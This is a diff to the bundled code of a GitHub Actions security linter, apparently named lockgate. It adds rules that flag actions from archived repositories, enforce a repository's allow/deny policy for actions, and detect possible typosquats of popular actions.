suzuki-shunsuke/trivy-config-action\nsuzuki-shunsuke/validate-pr-review-action\nsvenstaro/upx-action\nswiftdocorg/github-wiki-publish-action\ntachiyomiorg/issue-moderator-action\ntechnote-space/auto-cancel-redundant-workflow\ntechnote-space/get-diff-action\ntenable/terrascan\ntencentcloudbase/cloudbase-action\nterrencepreilly/darglint\nthegeeklab/ansible-later\ntibdex/github-app-token\ntrmcnvn/chrome-addon\nverygoodopensource/very_good_coverage\nwhelk-io/maven-settings-xml-action\nyeslayla/build-godot-action\nyouyo/aws-cdk-github-actions\nyumemi-inc/clean-cache-action\nz0al/dependent-issues";
+/** lockgate's own `owner/repo<TAB>what to use instead` lines (data/archived-action-replacements.tsv). */
+const ARCHIVED_ACTION_REPLACEMENTS = "8398a7/action-slack\tslackapi/slack-github-action\nactions-rs/audit-check\trustsec/audit-check\nactions-rs/cargo\tcargo in a run: step\nactions-rs/clippy-check\t`cargo clippy` in a run: step\nactions-rs/components-nightly\tdtolnay/rust-toolchain (its components: input)\nactions-rs/install\ttaiki-e/install-action\nactions-rs/toolchain\tdtolnay/rust-toolchain, or rustup in a run: step (rustup is preinstalled on GitHub-hosted runners)\nactions/create-release\tsoftprops/action-gh-release, or `gh release create` in a run: step (gh is preinstalled on GitHub-hosted runners)\nactions/setup-elixir\terlef/setup-beam\nactions/setup-haskell\thaskell-actions/setup\nactions/setup-ruby\truby/setup-ruby\nactions/upload-release-asset\tsoftprops/action-gh-release (its files: input), or `gh release upload` in a run: step\nallanchain/poetry-cache-action\tactions/setup-python with `cache: poetry`\nartichoke/setup-rust\tdtolnay/rust-toolchain\ncedrickring/golang-action\tactions/setup-go\ncrazy-max/ghaction-docker-buildx\tdocker/setup-buildx-action\ncrazy-max/ghaction-hugo\tpeaceiris/actions-hugo\ndelaguardo/setup-graalvm\tgraalvm/setup-graalvm\nfabasoad/setup-zizmor-action\tzizmorcore/zizmor-action\ngradle/gradle-build-action\tgradle/actions/setup-gradle\nilshidur/action-slack\tslackapi/slack-github-action\njakejarvis/hugo-build-action\tpeaceiris/actions-hugo\njakejarvis/s3-sync-action\taws-actions/configure-aws-credentials, then `aws s3 sync` in a run: step\nmarvinpinto/action-automatic-releases\tsoftprops/action-gh-release, or `gh release create` in a run: step\nmaxheld83/ghpages\tactions/upload-pages-artifact with actions/deploy-pages\nrepo-sync/pull-request\tpeter-evans/create-pull-request, or `gh pr create` in a run: step\nsemgrep/semgrep-action\t`semgrep ci` in a job running the semgrep/semgrep container\nsonarsource/sonarcloud-github-action\tSonarSource/sonarqube-scan-action\ntechnote-space/auto-cancel-redundant-workflow\ta workflow-level `concurrency:` with `cancel-in-progress: true`\ntibdex/github-app-token\tactions/create-github-app-token";
+
+;// CONCATENATED MODULE: ./src/workflows/archived-actions.ts
+/**
+ * Archived action repositories: zizmor's list (data/zizmor/archived-repos.txt, MIT), baked in so the
+ * check runs offline, with lockgate's own replacements for the well-known ones. An archived
+ * repository gets no fixes, security ones included, and its owner can no longer be asked for one.
+ */
+
+let archived = null;
+/** Built on first use: a run without workflows never splits the list. */
+function archivedMap() {
+    if (archived)
+        return archived;
+    const map = new Map();
+    for (const name of ARCHIVED_ACTIONS.split('\n'))
+        if (name)
+            map.set(name, {});
+    for (const line of ARCHIVED_ACTION_REPLACEMENTS.split('\n')) {
+        const tab = line.indexOf('\t');
+        if (tab > 0)
+            map.set(line.slice(0, tab), { replacement: line.slice(tab + 1) });
+    }
+    archived = map;
+    return map;
+}
+/** The archived repository `owner/repo` names (compared case-insensitively, as GitHub compares them), or undefined. */
+function archivedAction(owner, repo) {
+    return archivedMap().get(`${owner}/${repo}`.toLowerCase());
+}
+/** How many repositories the list holds (for tests and the docs). */
+function archivedActionCount() {
+    return archivedMap().size;
+}
+
+;// CONCATENATED MODULE: ./src/rules/workflows/archived-uses.ts
+/**
+ * An action or reusable workflow from an archived repository (zizmor's archived-uses): it is frozen,
+ * so whatever is wrong with it now, security holes included, stays wrong. The list is zizmor's,
+ * baked in (src/workflows/archived-actions.ts), so the check runs offline.
+ */
+
+
+
+const archived_uses_rule = defineRule({
+    meta: {
+        id: 'archived-uses',
+        // zizmor: Medium / High. A warning: the workflow still runs; nothing is exploitable today by itself.
+        defaultSeverity: 'warning',
+        defaultConfidence: 'high',
+        persona: 'regular',
+        summary: 'An action or reusable workflow comes from an archived repository, which gets no more fixes.',
+        on: 'workflows',
+    },
+    check(ctx, report) {
+        for (const wf of ctx.workflows) {
+            const flagged = [];
+            for (const site of usesSites(wf)) {
+                const uses = site.uses;
+                if (uses.kind !== 'repository' || !uses.validName)
+                    continue;
+                const archived = archivedAction(uses.owner, uses.repo);
+                if (archived)
+                    flagged.push({ site, target: usesTarget(uses), replacement: archived.replacement });
+            }
+            // The subject is the action, not the ref: bumping an archived action's version is not a new finding.
+            const subjects = occurrenceSubjects(flagged, (f) => f.target.toLowerCase());
+            flagged.forEach(({ site, target, replacement }, i) => {
+                const uses = site.uses;
+                const what = site.where === 'job' ? 'reusable workflow' : 'action';
+                report({
+                    file: wf.file,
+                    line: site.pos.line,
+                    column: site.pos.column,
+                    message: `The ${what} ${target} comes from ${uses.owner}/${uses.repo}, an archived repository: it gets no more fixes, security fixes included, ` +
+                        'and its dependencies stay as old as they are; a vulnerability found in it will not be fixed there.',
+                    fix: replacement
+                        ? `Replace it with ${replacement}.`
+                        : 'Replace it with a maintained action that does the same, or with the commands it runs in a run: step; ' +
+                            'or keep a reviewed copy in this repository (./.github/actions/…) that you maintain.',
+                    subject: subjects[i],
+                });
+            });
+        }
+    },
+});
+
+;// CONCATENATED MODULE: ./src/rules/workflows/forbidden-uses.ts
+/**
+ * The repository's own policy of which actions and reusable workflows may run (zizmor's
+ * forbidden-uses): `workflows.forbidden-uses` in `.github/lockgate.yml`, an allow-list, a deny-list
+ * or both. Without it the rule does nothing. The config is read from the base revision of a pull
+ * request, so a change cannot allow its own new action.
+ */
+
+
+
+const forbidden_uses_rule = defineRule({
+    meta: {
+        id: 'forbidden-uses',
+        // zizmor: High / High. An error: the repository wrote this policy itself; breaking it is never healthy.
+        defaultSeverity: 'error',
+        defaultConfidence: 'high',
+        persona: 'regular',
+        summary: 'An action or reusable workflow is forbidden by the `workflows.forbidden-uses` policy of `.github/lockgate.yml`.',
+        on: 'workflows',
+    },
+    check(ctx, report) {
+        const policy = ctx.settings.config.workflows?.forbiddenUses;
+        if (!policy || (!policy.allow && !policy.deny?.length))
+            return;
+        const configFile = ctx.settings.configFile;
+        for (const wf of ctx.workflows) {
+            const flagged = [];
+            for (const site of usesSites(wf)) {
+                const uses = site.uses;
+                // Local actions and docker:// images are not repository uses (zizmor leaves them out too).
+                if (uses.kind !== 'repository')
+                    continue;
+                const written = site.value.trim();
+                const what = site.where === 'job' ? 'reusable workflow' : 'action';
+                const denied = policy.deny?.find((pattern) => matchesUsesPattern(pattern, uses));
+                if (denied) {
+                    flagged.push({
+                        site,
+                        message: `The ${what} ${written} is forbidden by this repository's policy: it matches the deny pattern ${denied.text} of workflows.forbidden-uses in ${configFile}.`,
+                        fix: `Remove this step or use an allowed ${what} instead; ${denied.text} was denied on purpose, so change ${configFile} only if that decision changes.`,
+                    });
+                    continue;
+                }
+                if (policy.allow && !policy.allow.some((pattern) => matchesUsesPattern(pattern, uses))) {
+                    flagged.push({
+                        site,
+                        message: `The ${what} ${written} is forbidden by this repository's policy: it matches none of the allow patterns of workflows.forbidden-uses in ${configFile} ` +
+                            `(${forbidden_uses_listOf(policy.allow)}).`,
+                        fix: `Use an allowed ${what} instead, or, once ${uses.owner}/${uses.repo} has been reviewed, add it to workflows.forbidden-uses.allow in ${configFile} ` +
+                            `(as ${uses.owner}/${uses.repo}${uses.path ? `/${uses.path}` : ''}, or ${uses.owner}/* for everything of its owner).`,
+                    });
+                }
+            }
+            const subjects = occurrenceSubjects(flagged, (f) => f.site.value.trim());
+            flagged.forEach((f, i) => {
+                report({ file: wf.file, line: f.site.pos.line, column: f.site.pos.column, message: f.message, fix: f.fix, subject: subjects[i] });
+            });
+        }
+    },
+});
+/** The patterns for a message: the first few, and how many more. */
+function forbidden_uses_listOf(patterns) {
+    const shown = patterns.slice(0, 5).map((pattern) => pattern.text);
+    return patterns.length > shown.length ? `${shown.join(', ')} and ${patterns.length - shown.length} more` : shown.join(', ');
+}
+
+;// CONCATENATED MODULE: ./src/typosquat/popular-actions.generated.ts
+// Generated by scripts/update-action-lists.mjs. Do not edit by hand.
+/** Where the popular list comes from (zizmor, MIT License, Copyright (c) 2024 William Woodruff, plus lockgate's data/popular-actions-extra.txt). */
+const POPULAR_ACTIONS_SOURCE = "zizmor crates/zizmor/data/popular-actions.txt at 11bbf7e6cffac7ccf4f803d40255e0cd54c60236 (2026-08-22), https://github.com/zizmorcore/zizmor; plus data/popular-actions-extra.txt";
+/** Popular actions, `owner/repo` as their owners spell them, one a line. */
+const POPULAR_ACTIONS = "8398a7/action-slack\nactions/attest-build-provenance\nactions/cache\nactions/checkout\nactions/configure-pages\nactions/create-github-app-token\nactions/dependency-review-action\nactions/deploy-pages\nactions/download-artifact\nactions/github-script\nactions/labeler\nactions/setup-dotnet\nactions/setup-go\nactions/setup-java\nactions/setup-node\nactions/setup-python\nactions/stale\nactions/upload-artifact\nactions/upload-pages-artifact\nanthropics/claude-code-action\nastral-sh/setup-uv\naws-actions/configure-aws-credentials\nazure/login\ncloudflare/wrangler-action\ncodecov/codecov-action\nconda-incubator/setup-miniconda\ndependabot/fetch-metadata\ndocker/build-push-action\ndocker/login-action\ndocker/metadata-action\ndocker/setup-buildx-action\ndocker/setup-qemu-action\ndorny/paths-filter\ndtolnay/rust-toolchain\ngithub/codeql-action\ngoogle-github-actions/auth\ngoogle-github-actions/setup-gcloud\ngoreleaser/goreleaser-action\ngradle/actions\nhashicorp/setup-terraform\nJamesIves/github-pages-deploy-action\nmamba-org/setup-micromamba\nmikefarah/yq\nncipollo/release-action\npeaceiris/actions-gh-pages\npeter-evans/create-pull-request\npnpm/action-setup\npre-commit/action\nprefix-dev/setup-pixi\nPyO3/maturin-action\npypa/cibuildwheel\npypa/gh-action-pypi-publish\nre-actors/alls-green\nrelease-drafter/release-drafter\nruby/setup-ruby\nshivammathur/setup-php\nsigstore/gh-action-sigstore-python\nslackapi/slack-github-action\nsoftprops/action-gh-release\nstep-security/harden-runner\nstyfle/cancel-workflow-action\nSwatinem/rust-cache\ntaiki-e/install-action\ntj-actions/changed-files\nzizmorcore/zizmor-action";
+
+;// CONCATENATED MODULE: ./src/typosquat/actions.ts
+/**
+ * Typosquats of popular GitHub Actions, as zizmor's typosquat-uses finds them (its typomania checks,
+ * offline): an `owner/repo` that is not itself popular, under another owner than the popular action
+ * it resembles, and one of these edits away from it (names compared in lower case):
+ * - `omitted`: a character left out (`action/checkout` for `actions/checkout`);
+ * - `repeated`: a character doubled (`actiions/checkout`);
+ * - `swapped`: two adjacent characters swapped (`cations/checkout`, `dokcer/login-action`);
+ * - `typo`: a character replaced by a keyboard neighbour or a look-alike, or a stray `-`, `_`, `.`
+ *   (`acti0ns/checkout`, `docker/…` as `dpcker/…`, `rn` for `m`, `vv` for `w`);
+ * - `swapped-words`: the same words in another order (`checkout/actions`).
+ * Because the owner must differ, the edit is always in the owner's name (or across the `/`): the same
+ * owner's other repositories (`actions/setup-go` beside `actions/setup-node`) are never squats.
+ * typomania's version check (a trailing number added) only ever edits the repository name, so it
+ * cannot change the owner and never fires for actions; it is left out.
+ *
+ * The popular list is zizmor's data/popular-actions.txt (MIT) plus lockgate's additions
+ * (data/popular-actions-extra.txt), baked in by scripts/update-action-lists.mjs.
+ */
+
+/** How a message says what the edit was: "<name> <description> <popular>". */
+const ACTION_SQUAT_DESCRIPTIONS = {
+    omitted: 'leaves out a character of',
+    repeated: 'repeats a character of',
+    swapped: 'swaps two adjacent characters of',
+    typo: 'has a common typo (a neighbouring key or a look-alike character) of',
+    'swapped-words': 'has the words, in another order, of',
+};
+/**
+ * zizmor's typo table (keyboard neighbours plus a few look-alikes, from typomania's example, which
+ * takes it from the crates.io typosquat checker): a character of the name as written, and what the
+ * popular name may have in its place.
+ */
+const TYPOS = {
+    '1': ['2', 'q', 'i', 'l'],
+    '2': ['1', 'q', 'w', '3'],
+    '3': ['2', 'w', 'e', '4'],
+    '4': ['3', 'e', 'r', '5'],
+    '5': ['4', 'r', 't', '6', 's'],
+    '6': ['5', 't', 'y', '7'],
+    '7': ['6', 'y', 'u', '8'],
+    '8': ['7', 'u', 'i', '9'],
+    '9': ['8', 'i', 'o', '0'],
+    '0': ['9', 'o', 'p', '-'],
+    '-': ['_', '0', 'p', '.', ''],
+    _: ['-', '0', 'p', '.', ''],
+    q: ['1', '2', 'w', 'a'],
+    w: ['2', '3', 'e', 's', 'a', 'q', 'vv'],
+    e: ['3', '4', 'r', 'd', 's', 'w'],
+    r: ['4', '5', 't', 'f', 'd', 'e'],
+    t: ['5', '6', 'y', 'g', 'f', 'r'],
+    y: ['6', '7', 'u', 'h', 't', 'i'],
+    u: ['7', '8', 'i', 'j', 'y', 'v'],
+    i: ['1', '8', '9', 'o', 'l', 'k', 'j', 'u', 'y'],
+    o: ['9', '0', 'p', 'l', 'i'],
+    p: ['0', '-', 'o'],
+    a: ['q', 'w', 's', 'z'],
+    s: ['w', 'd', 'x', 'z', 'a', '5'],
+    d: ['e', 'r', 'f', 'c', 'x', 's'],
+    f: ['r', 'g', 'v', 'c', 'd'],
+    g: ['t', 'h', 'b', 'v', 'f'],
+    h: ['y', 'j', 'n', 'b', 'g'],
+    j: ['u', 'i', 'k', 'm', 'n', 'h'],
+    k: ['i', 'o', 'l', 'm', 'j'],
+    l: ['i', 'o', 'p', 'k', '1'],
+    z: ['a', 's', 'x'],
+    x: ['z', 's', 'd', 'c'],
+    c: ['x', 'd', 'f', 'v'],
+    v: ['c', 'f', 'g', 'b', 'u'],
+    b: ['v', 'g', 'h', 'n'],
+    n: ['b', 'h', 'j', 'm'],
+    m: ['n', 'j', 'k', 'rn'],
+    '.': ['-', '_', ''],
+    '/': ['-', '_'],
+};
+/** Whether TYPOS lets the written text `from` (one character) stand for `to` in the popular name. */
+function isTypo(from, to) {
+    return from.length === 1 && Object.hasOwn(TYPOS, from) && TYPOS[from].includes(to);
+}
+/** typomania's alphabet for the omitted check: what a left-out character can be. */
+const OMITTABLE = /^[a-z0-9\-_./]$/;
+/** Word delimiters of the swapped-words check; typomania permutes at most 5 words. */
+const WORD_DELIMITERS = /[-_/]/;
+const MAX_WORDS = 5;
+let byLength = null;
+let popularNames = null;
+function popularIndex() {
+    if (byLength && popularNames)
+        return { byLength, names: popularNames };
+    const lengths = new Map();
+    const names = new Set();
+    for (const name of POPULAR_ACTIONS.split('\n')) {
+        if (!name)
+            continue;
+        const lower = name.toLowerCase();
+        names.add(lower);
+        const entry = { name, lower, owner: lower.slice(0, lower.indexOf('/')) };
+        const list = lengths.get(lower.length);
+        if (list)
+            list.push(entry);
+        else
+            lengths.set(lower.length, [entry]);
+    }
+    byLength = lengths;
+    popularNames = names;
+    return { byLength, names };
+}
+/** Whether `owner/repo` is on the popular list (case-insensitively). */
+function isPopularAction(owner, repo) {
+    return popularIndex().names.has(`${owner}/${repo}`.toLowerCase());
+}
+/**
+ * The popular action `owner/repo` imitates, or null. Names GitHub could not have (checked by the
+ * caller) should not be passed; a long name is cheap anyway: it is compared only with popular names
+ * of its length, one shorter or one longer.
+ */
+function actionTyposquat(owner, repo) {
+    const candidate = `${owner}/${repo}`.toLowerCase();
+    const { byLength: lengths, names } = popularIndex();
+    if (names.has(candidate))
+        return null;
+    const candidateOwner = candidate.slice(0, candidate.indexOf('/'));
+    for (const delta of [0, -1, 1]) {
+        for (const popular of lengths.get(candidate.length + delta) ?? []) {
+            if (popular.owner === candidateOwner)
+                continue; // an owner cannot squat its own actions
+            const technique = editBetween(candidate, popular.lower);
+            if (technique)
+                return { popular: popular.name, technique };
+        }
+    }
+    return null;
+}
+/** Which of zizmor's edits turns the popular name `p` into the written name `c` (both lower case), or null. */
+function editBetween(c, p) {
+    if (c === p)
+        return null;
+    let prefix = 0;
+    const shorter = Math.min(c.length, p.length);
+    while (prefix < shorter && c[prefix] === p[prefix])
+        prefix++;
+    let suffix = 0;
+    while (suffix < shorter - prefix && c[c.length - 1 - suffix] === p[p.length - 1 - suffix])
+        suffix++;
+    const cMiddle = c.slice(prefix, c.length - suffix);
+    const pMiddle = p.slice(prefix, p.length - suffix);
+    if (c.length === p.length + 1 && cMiddle.length === 1 && pMiddle === '') {
+        // One extra character in c. Any position in the run of equal characters removes to p: a doubled
+        // character (typomania's repeated check), or a stray separator (the typo table's '' entries).
+        const extra = cMiddle;
+        if (c[prefix - 1] === extra || c[prefix + 1] === extra)
+            return 'repeated';
+        if (isTypo(extra, ''))
+            return 'typo';
+        return null;
+    }
+    if (c.length + 1 === p.length) {
+        if (cMiddle === '' && OMITTABLE.test(pMiddle))
+            return 'omitted';
+        if (isTypo(cMiddle, pMiddle))
+            return 'typo'; // `m` for `rn`, `w` for `vv`
+        return null;
+    }
+    if (c.length !== p.length)
+        return null;
+    if (cMiddle.length === 1 && isTypo(cMiddle, pMiddle))
+        return 'typo';
+    if (cMiddle.length === 2 && cMiddle[0] !== cMiddle[1] && cMiddle[0] === pMiddle[1] && cMiddle[1] === pMiddle[0])
+        return 'swapped';
+    return swappedWords(c, p) ? 'swapped-words' : null;
+}
+/** typomania's swapped-words check: c's words, reordered and joined by one delimiter, are p. */
+function swappedWords(c, p) {
+    const words = c.split(WORD_DELIMITERS);
+    if (words.length < 2 || words.length > MAX_WORDS)
+        return false;
+    const delimiter = /[-_/]/.exec(p)?.[0];
+    if (!delimiter)
+        return false;
+    const popularWords = p.split(delimiter);
+    // p must be the words joined by that one delimiter only.
+    if (popularWords.length !== words.length || popularWords.some((word) => WORD_DELIMITERS.test(word)))
+        return false;
+    return [...words].sort().join('\n') === [...popularWords].sort().join('\n');
+}
+
+;// CONCATENATED MODULE: ./src/rules/workflows/typosquat-uses.ts
+/**
+ * An action named one typo away from a popular action, under another owner (zizmor's
+ * typosquat-uses): a squatter registers `actoins/checkout` and waits for a slip. Offline, lockgate
+ * cannot tell whether the look-alike is a squat or an unrelated action with a similar name, so the
+ * finding has low confidence, as zizmor's has without a token.
+ */
+
+
+
+const typosquat_uses_rule = defineRule({
+    meta: {
+        id: 'typosquat-uses',
+        // zizmor: High / Low offline. A warning: a name alone is not proof, and a gate that fails on a guess gets uninstalled.
+        defaultSeverity: 'warning',
+        defaultConfidence: 'low',
+        persona: 'regular',
+        summary: 'An action or reusable workflow is named like a popular action under another owner (a possible typosquat).',
+        on: 'workflows',
+    },
+    check(ctx, report) {
+        // The repository's own owner naming its own actions is not squatting anyone.
+        const self = ctx.settings.repository?.split('/')[0]?.toLowerCase();
+        for (const wf of ctx.workflows) {
+            const flagged = [];
+            for (const site of usesSites(wf)) {
+                const uses = site.uses;
+                if (uses.kind !== 'repository' || !uses.validName || uses.owner.toLowerCase() === self)
+                    continue;
+                const squat = actionTyposquat(uses.owner, uses.repo);
+                if (!squat)
+                    continue;
+                const slug = `${uses.owner}/${uses.repo}`;
+                const what = site.where === 'job' ? 'reusable workflow' : 'action';
+                const meant = `${squat.popular}${uses.path ? `/${uses.path}` : ''}`;
+                flagged.push({
+                    site,
+                    slug,
+                    message: `The ${what} ${slug} looks like the popular action ${squat.popular} under another owner: it ${ACTION_SQUAT_DESCRIPTIONS[squat.technique]} ${squat.popular}. ` +
+                        `A typosquatted action runs its author's code with this job's token and secrets. ` +
+                        'Checked offline against a list of popular actions: it may also be an unrelated action with a similar name.',
+                    fix: `If you meant ${squat.popular}, write ${meant}@<commit sha> # <tag>. ` +
+                        `If ${slug} is the action you meant, check its repository and owner, then ignore this finding (# lockgate: ignore[typosquat-uses]).`,
+                });
+            }
+            const subjects = occurrenceSubjects(flagged, (f) => f.slug.toLowerCase());
+            flagged.forEach((f, i) => {
+                report({ file: wf.file, line: f.site.pos.line, column: f.site.pos.column, message: f.message, fix: f.fix, subject: subjects[i] });
+            });
+        }
+    },
+});
+
 ;// CONCATENATED MODULE: ./src/rules/index.ts
+
+
+
 
 
 
@@ -50487,6 +51012,9 @@ const RULES = [
     unsound_condition_rule,
     insecure_commands_rule,
     workflow_invalid_rule,
+    archived_uses_rule,
+    forbidden_uses_rule,
+    typosquat_uses_rule,
     // Not a check: the framework's finding for a rule that threw (rules/run.ts).
     internal_error_rule,
 ];
@@ -54137,7 +54665,7 @@ async function run(env = process.env) {
     }
     // Loaded only now: an event that exits early never evaluates the engine, rules, client or reporters.
     // "eager": the module stays in dist/index.js (no chunk file beside it), evaluated on this import.
-    const { check } = await Promise.resolve(/* import() eager */).then(__nccwpck_require__.bind(__nccwpck_require__, 7559));
+    const { check } = await Promise.resolve(/* import() eager */).then(__nccwpck_require__.bind(__nccwpck_require__, 7831));
     await check(action, env, event, getInput);
 }
 /** One line, no stack trace (unless LOCKGATE_DEBUG), and never a secret. */
